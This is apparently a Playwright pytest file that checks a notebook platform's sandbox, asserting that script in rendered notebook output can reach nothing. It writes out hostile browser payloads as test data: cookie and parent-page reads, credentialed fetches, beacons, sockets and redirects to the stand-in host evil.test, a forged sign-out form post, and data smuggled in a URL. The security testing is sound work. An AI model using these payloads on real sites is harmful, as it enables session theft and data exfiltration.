"""What a notebook shows is a task's own words: its script runs, in a frame that reaches nothing."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Frame, Page, expect

from tests.bench import Bench
from tests.browser.looking import until
from tests.browser.two_people import People, both_come_in
from tests.waiting import wait_for

pytestmark = [pytest.mark.browser, pytest.mark.needs("chromium"), pytest.mark.timeout(300, func_only=True)]

# each is tried by the notebook's own output; what it says is written under its name
TRIES = {
    "cookie": "document.cookie",
    "storage": "localStorage.length",
    "database": "asked(indexedDB.open('x'), 'onsuccess')",
    "parent": "parent.document.body.innerText",
    "parent's cookie": "parent.document.cookie",
    "top": "top.location.href",
    "go to top": "(top.location = 'https://evil.test/', 'gone')",
    "fetch": "fetch('PORTAL/api/v1/me', {credentials: 'include'}).then((answer) => answer.text())",
    "fetch anywhere": "fetch('https://evil.test/', {mode: 'no-cors'})",
    "socket": "asked(new WebSocket('wss://evil.test/'), 'onopen')",
    "stream": "asked(new EventSource('PORTAL/live', {withCredentials: true}), 'onopen')",
    "beacon": "navigator.sendBeacon('https://evil.test/', 'x')",
    "picture": "asked(Object.assign(new Image(), {src: 'https://evil.test/x.png'}), 'onload')",
    "script": "asked(added('script', {src: 'PORTAL/api/v1/me'}), 'onload')",
    "worker": "asked(new Worker('data:text/javascript,postMessage(1)'), 'onmessage')",
    "frame": "asked(added('iframe', {src: 'PORTAL/'}), 'onload').then((it) => it.target.contentDocument || 'closed')",
    "form": "added('form', {action: 'PORTAL/sign-out', method: 'post'}).submit()",
    "window": "window.open('PORTAL/')",
}
# a beacon says yes whatever becomes of it; that none went out is seen below. What is late counts as refused
ALLOWED = {"beacon": "true", "frame": "closed", "form": "undefined", "window": "null"}
PAGE = """<div id="said">nothing yet</div><script>
const asked = (one, good) => new Promise((over, not) => { one[good] = over; one.onerror = not })
const added = (name, with_) => document.body.appendChild(Object.assign(document.createElement(name), with_))
const late = () => new Promise((_, over) => setTimeout(over, 1500));
(async () => {
    const said = {}
    const tries = { TRIES }
    for (const [name, attempt] of Object.entries(tries)) {
        try { said[name] = String(await Promise.race([attempt(), late()])) }
        catch (error) { said[name] = "refused" }
    }
    document.getElementById("said").innerText = JSON.stringify(said)
})()
</script>"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>top.location = "https://evil.test/"</script></svg>'


@pytest.fixture(scope="module")
def people(guarded: Bench) -> Iterator[People]:
    with both_come_in(guarded) as people:
        yield people


@pytest.fixture(scope="module")
def hostile(people: People) -> dict[str, Any]:
    tries = ", ".join(f"{json.dumps(name)}: () => {attempt}" for name, attempt in TRIES.items())
    page = PAGE.replace("TRIES", tries, 1).replace("PORTAL", people.ada.bench.url)
    return people.ada.run(
        f"from IPython.display import HTML, SVG, Javascript, Markdown, display\ndisplay(HTML({page!r}))",
        f"display(SVG({SVG!r}))",
        "display(Javascript('top.location = \"https://evil.test/\"'))",
        "display(Markdown('[here](javascript:document.title=2)'))",
        f"open('page.html', 'w').write({page!r})",
    )


@pytest.fixture
def asked() -> set[str]:
    """What left the browser for somewhere else."""
    return set()


@pytest.fixture
def page(people: People, asked: set[str]) -> Iterator[Page]:
    page = people.ada.browser.new_page()
    page.route("https://evil.test/**", lambda route: (asked.add(route.request.url), route.abort()))
    yield page
    page.close()


def said(frame: Frame) -> dict[str, str]:
    until(frame, "document.getElementById('said')?.innerText.startsWith('{')")
    return json.loads(frame.locator("#said").inner_text())


def assert_all_refused(answers: dict[str, str]) -> None:
    assert answers.keys() == TRIES.keys()
    got = {name: answer for name, answer in answers.items() if answer not in ("refused", ALLOWED.get(name))}
    assert got == {}


def test_in_its_frame(people: People, hostile: dict[str, Any], page: Page, asked: set[str]) -> None:
    address = f"{people.ada.bench.url}/runs/{hostile['id']}"
    page.goto(address)
    pages = len(people.ada.browser.pages)
    frame = wait_for(lambda: page.frame(url="**/notebook.html"))
    assert_all_refused(said(frame))
    assert page.url == address
    assert len(people.ada.browser.pages) == pages
    assert asked == set()
    expect(page.locator(".person")).to_have_text("ada")


def test_the_frame_itself_leads_nowhere(people: People, hostile: dict[str, Any], page: Page, asked: set[str]) -> None:
    """It could carry words away in an address."""
    page.goto(f"/runs/{hostile['id']}")
    frame = wait_for(lambda: page.frame(url="**/notebook.html"))
    said(frame)
    with page.expect_event("framenavigated", lambda moved: moved.url.startswith("chrome-error:")):
        frame.evaluate("() => { location = 'https://evil.test/?words' }")
    assert asked == set()


def test_a_file_that_it_made_is_downloaded_and_never_shown(people: People, hostile: dict[str, Any], page: Page) -> None:
    page.goto("/")
    with page.expect_download():
        page.evaluate(f"location = '/api/v1/runs/{hostile['id']}/files/page.html'")
    headers = people.ada.api.get(f"/runs/{hostile['id']}/files/page.html").headers
    assert headers["Content-Type"] == "application/octet-stream"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Security-Policy"].startswith("sandbox;")
